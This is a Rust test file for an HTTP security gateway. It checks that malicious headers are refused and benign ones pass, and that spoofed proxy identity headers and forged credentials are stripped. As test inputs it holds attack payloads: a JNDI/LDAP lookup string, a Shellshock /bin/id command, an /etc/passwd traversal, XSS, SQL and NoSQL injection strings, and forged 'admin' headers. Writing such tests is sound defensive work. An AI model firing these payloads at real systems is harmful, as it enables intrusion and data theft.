//! What a head says is judged whatever header it stands in, and what only a proxy may say is not believed. Beside each
//! attack stands its honest neighbour.

use crate::access_lines::echo;
use crate::support::{Recorder, Running, status};

const JNDI: &str = "${jndi:ldap://a.example/a}";

#[test]
fn every_header_is_judged() {
    let upstream = Recorder::plain();
    let gate = Running::start("", &[upstream.url()]);
    let ask = |name: &str, value: &str| status(&gate.ask("GET", "/x", &[(name, value)], b""));
    for name in [
        "Accept",
        "Accept-Encoding",
        "Accept-Language",
        "Authorization",
        "Cache-Control",
        "Date",
        "If-Match",
        "If-Modified-Since",
        "If-Range",
        "Origin",
        "Priority",
        "Range",
        "Sec-CH-UA",
        "Sec-Fetch-Site",
        "X-Anything",
    ] {
        assert!(ask(name, JNDI) >= 400, "{name}");
    }
    for (name, value) in [
        ("Accept", "../../../../etc/passwd{{"),
        ("Cache-Control", "() { :;}; /bin/id"),
        ("Accept-Language", "<script>alert(1)</script>"),
        ("If-None-Match", "\"x' union select 1,2-- \""),
        ("Authorization", "Digest username=\"x' or '1'='1\", realm=\"a\""),
        ("Authorization", "Basic YScgb3IgJzEnPScxOmI="),
        ("Authorization", "Basic !YScgb3IgJzEnPScxOmI"),
        ("If-None-Match", "\"1 UNION SELECT password FROM users\""),
        ("Accept-Language", "php://filter/convert.base64-encode/resource=index"),
        ("Accept-Language", "%3Csvg/onload=alert%601%60%3E"),
        ("Cookie", "q=\"$\\{jndi:ldap://a.example/a}\""),
        ("X-Forwarded-For", "127.0.0.1' or sleep(5)-- "),
        ("Cookie", "id' union select 1,password from users-- =1"),
        ("Cookie", "user[$ne]=1"),
        ("Cookie", "a=1; <svg onload=alert(1)>"),
        ("Cookie", "a=\u{e9}; t=<script>alert(1)</script>"),
        ("Cookie", "q=\"1' ; union select 1,2 -- \""),
    ] {
        assert!(ask(name, value) >= 400, "{name}: {value}");
    }
    assert_eq!(upstream.take(), "");
    for (name, value) in [
        ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,*/*;q=0.8"),
        ("Accept-Language", "de-CH,de;q=0.9,en;q=0.8"),
        ("Authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJpc3MiOiJodHRwOi8vbG9jYWxob3N0OjgwODAifQ.a--b"),
        ("Authorization", "Basic YWxpY2U6MScgb3IgJzEnPScx"),
        ("Cache-Control", "no-cache"),
        ("If-None-Match", "W/\"33a64df551425fcc\", \"a-b+c/d=\""),
        ("Origin", "https://shop.example"),
        ("Range", "bytes=0-499"),
        ("Sec-CH-UA", "\"Chromium\";v=\"118\", \"Not=A?Brand\";v=\"99\""),
        ("Cookie", "city=Z\u{fc}rich; prefs={\"a\":1}; _ga=GA1.2.1.2; flag"),
        ("Connection", "keep-alive, Upgrade"),
    ] {
        let answer = ask(name, value);
        assert!(answer == 200 || (name == "Connection" && answer < 400), "{name}: {value} answered {answer}");
        upstream.take();
    }
}

#[test]
fn what_only_a_proxy_may_say_is_not_believed() {
    let upstream = Recorder::plain();
    let names = [
        "X-Forwarded-User",
        "Remote-User",
        "X-Client-Cert",
        "Proxy",
        "X-Middleware-Subrequest",
        "X-WebAuth-User",
        "X-Script-Name",
        "Remote-Groups",
        "Remote-Name",
        "Remote-Email",
        "X-Authentik-Username",
        "X-Consumer-Username",
        "X-Authenticated-Userid",
        "Cf-Access-Authenticated-User-Email",
        "X-Forwarded-Tls-Client-Cert",
        "Ssl-Client-Verify",
        "X-Arr-Clientcert",
        "X-Original-Uri",
        "X-Envoy-Original-Path",
        "X-Original-Forwarded-For",
        "X-Remote-Ip",
        "Client-Cert",
        "X-Sendfile-Type",
    ];
    let claims: Vec<(&str, &str)> = names.iter().map(|name| (*name, "admin")).collect();
    let seen = |policy: &str| {
        let gate = Running::start(policy, &[upstream.url()]);
        assert_eq!(status(&gate.ask("GET", "/x", &claims, b"")), 200);
        upstream.take().to_ascii_lowercase()
    };
    assert!(!seen("").contains("admin"));
    let trusted = seen("[gateway]\ntrusted_proxies = ['127.0.0.0/8']");
    assert_eq!(trusted.matches("admin").count(), names.len(), "{trusted}");
    let own = seen("[protocol]\nproxy_only_headers = ['x-tenant']");
    assert_eq!(own.matches("admin").count(), names.len(), "{own}");
    // A header that `Connection` names would be judged here and not reach the upstream.
    let gate = Running::start("", &[upstream.url()]);
    let named = |options: &str, header: &str| {
        let raw = format!(
            "GET /x HTTP/1.1\r\nHost: a\r\nUser-Agent: t\r\nConnection: close, {options}\r\n{header}\r\n\r\n"
        );
        (status(&gate.raw(raw.as_bytes())), upstream.take().to_ascii_lowercase())
    };
    for option in ["host", "Content-Type", "content-encoding", "Content-Length"] {
        assert_eq!(named(option, "X-A: 1").0, 400, "{option}");
    }
    let (answer, seen) = named("x-tenant", "X-Tenant: 7");
    assert!(answer == 200 && !seen.contains("x-tenant"), "{seen}");
    assert!(gate.events.has(&["header-confusing", "x-tenant"]));
}

#[test]
fn a_host_is_a_host() {
    let upstream = Recorder::plain();
    let ask = |gate: &Running, host: &str| {
        let raw = format!("GET /x HTTP/1.1\r\nHost: {host}\r\nUser-Agent: t\r\nConnection: close\r\n\r\n");
        let answer = status(&gate.raw(raw.as_bytes()));
        (answer, upstream.take())
    };
    let gate = Running::start("", &[upstream.url()]);
    for host in ["a,for=6.6.6.6;proto=https", "*", "(x)", "x.test:99999", "a b", "user@a", "[::1", "a:b"] {
        assert_eq!(ask(&gate, host).0, 400, "{host}");
    }
    for host in [
        "shop.example",
        "shop.example:8443",
        "127.0.0.1:80",
        "[::1]:80",
        "under_score",
        "xn--bcher-kva.example",
    ] {
        assert_eq!(ask(&gate, host).0, 200, "{host}");
    }
    let gate = Running::start("[gateway]\nhosts = ['shop.example', '*.api.example']", &[upstream.url()]);
    for (host, expected) in [
        ("shop.example", 200),
        ("SHOP.example:8443", 200),
        ("a.api.example", 200),
        ("api.example", 421),
        ("a.b.api.example", 421),
        ("evil.example", 421),
    ] {
        let (answer, seen) = ask(&gate, host);
        assert_eq!(answer, expected, "{host}");
        assert!(expected == 200 || seen.is_empty(), "{host}");
    }
}

#[test]
fn every_credential_is_verified_or_taken_away() {
    let upstream = Recorder::plain();
    let policy = "[auth]\ncookie = 'session'\n\
        [[auth.api_key]]\nsubject = 'bob'\nsha256 = '81b637d8fcd2c6da6359e6963113a1170de795e4b725b84d1e0b4cfd9ec58ce9'";
    let gate = Running::start(policy, &[upstream.url()]);
    let ask = |headers: &[(&str, &str)]| {
        let answer = status(&gate.ask("GET", "/x", headers, b""));
        (answer, upstream.take())
    };
    for headers in [
        &[("Authorization", "Bearer\tforged")][..],
        &[("Authorization", "bearer  forged")],
        &[("X-API-Key", "eve")],
        &[("X-API-Key", "bob"), ("X-API-Key", "eve")],
        &[("Cookie", "session=a; session=b")],
    ] {
        assert_eq!(ask(headers).0, 401, "{headers:?}");
    }
    for headers in [
        &[("Authorization", "JWT forged")][..],
        &[("Authorization", "forged")],
        &[("Cookie", "session=forged")],
        &[("Cookie", "a=\u{e9}; session=forged; b=2")],
        &[("X-API-Key", "bob"), ("Cookie", "session=forged")],
        &[("Cookie", "session[]=forged")],
        &[("Cookie", "\u{a0}session=forged")],
        &[("Cookie", "a=1 session=forged")],
    ] {
        let (answer, seen) = ask(headers);
        assert_eq!(answer, 200, "{headers:?}");
        assert!(!seen.contains("forged"), "{seen}");
    }
    let (_, seen) = ask(&[("Cookie", "note=my session notes")]);
    assert!(seen.contains("cookie: note=my session notes\r\n"), "{seen}");
    let (_, seen) = ask(&[("Cookie", "a=1; session=forged; b=2")]);
    assert!(seen.contains("cookie: a=1; b=2\r\n"), "{seen}");
    let (answer, seen) = ask(&[("X-API-Key", "bob"), ("Cookie", "a=1")]);
    assert!(
        answer == 200 && seen.contains("x-doorward-subject: bob") && seen.contains("cookie: a=1"),
        "{seen}"
    );
}

#[test]
fn a_handshake_of_another_site_is_refused_where_the_browser_sends_its_cookies() {
    let gate = Running::start("[cors]\norigins = ['https://app.example']", &[echo()]);
    for (origin, cookie, expected) in [
        ("https://evil.example", "session=1", 403),
        ("null", "session=1", 403),
        ("https://evil.example", "", 101),
        ("https://app.example", "session=1", 101),
        ("http://api.example", "session=1", 101),
        ("", "session=1", 101),
    ] {
        let field = |name: &str, value: &str| match value {
            "" => String::new(),
            value => format!("{name}: {value}\r\n"),
        };
        let text = format!(
            "GET /ws HTTP/1.1\r\nHost: api.example\r\nUser-Agent: t\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\
             Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n{}{}\r\n",
            field("Origin", origin),
            field("Cookie", cookie),
        );
        assert_eq!(
            status(&gate.raw(text.as_bytes())),
            expected,
            "{origin} {cookie} {:?}",
            gate.events.all().last()
        );
    }
    assert!(gate.events.has(&["\"rule\":\"forged\"", "/ws"]));
}

#[test]
fn an_expectation_that_nobody_knows_is_told_so() {
    let upstream = Recorder::plain();
    let gate = Running::start("", &[upstream.url()]);
    for (expectation, expected) in [
        ("200-ok", 417),
        ("100-continue, 200-ok", 417),
        ("x=1", 417),
        ("100-continue", 200),
        ("100-Continue", 200),
    ] {
        let text = format!(
            "POST / HTTP/1.1\r\nHost: a\r\nUser-Agent: t\r\nConnection: close\r\nContent-Length: 1\r\nExpect: {expectation}\r\n\r\na"
        );
        let answer = gate.raw(text.as_bytes());
        // Behind `100 Continue`, if that was asked for.
        let last = answer.rsplit("HTTP/1.1 ").next().unwrap();
        assert_eq!(status(&format!("HTTP/1.1 {last}")), expected, "{expectation}: {answer}");
        assert_eq!(upstream.take().is_empty(), expected == 417, "{expectation}");
    }
    assert!(gate.events.has(&["\"rule\":\"expect\"", "refused"]));
}
